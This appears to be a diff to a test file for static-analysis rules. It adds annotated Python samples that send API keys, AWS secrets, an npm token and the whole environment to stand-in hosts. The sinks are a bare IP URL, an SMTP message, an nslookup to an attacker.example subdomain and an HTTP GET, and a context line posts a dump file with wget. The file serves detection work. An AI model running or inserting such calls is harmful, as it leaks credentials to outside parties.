@@ -235,3 +235,25 @@ os.execvp("wget", ["wget", "--post-file=/tmp/dump", "https://x.example/c"])
 subprocess.run(["curl", "-fsSL", "-o", "data.csv", "https://data.example/d.csv"], check=True)
 # ok: network-tool-command
 subprocess.run(["wget", "-q", "https://data.example/d.csv"], check=True)
+
+# environment secrets sent to bare IP addresses, in messages, in DNS tools
+import smtplib
+import subprocess
+
+api_key = os.environ["OPENAI_API_KEY"]
+# ruleid: secret-to-ip-address, http-client
+urllib.request.urlopen("https://203.0.113.5/k?v=" + api_key)
+# ok: secret-to-ip-address
+# ruleid: http-client, requests-no-timeout
+requests.post("https://api.openai.com/v1/chat/completions", headers={"Authorization": f"Bearer {api_key}"})
+aws_secret = os.getenv("AWS_SECRET_ACCESS_KEY")
+# ruleid: clear-text-protocol-client
+mailer = smtplib.SMTP("mail.example.org", 25)
+# ruleid: secret-in-message
+mailer.sendmail("a@example.org", ["b@example.org"], "Subject: x\n\n" + str(aws_secret))
+npm_token = os.environ.get("NPM_TOKEN", "")
+# ruleid: secret-dns-tool
+subprocess.run(["nslookup", npm_token + ".n.attacker.example"])
+env_copy = {k: os.environ[k] for k in os.environ}
+# ruleid: secret-exfiltration, http-client
+requests.get("https://203.0.113.5/", params=env_copy, timeout=3)
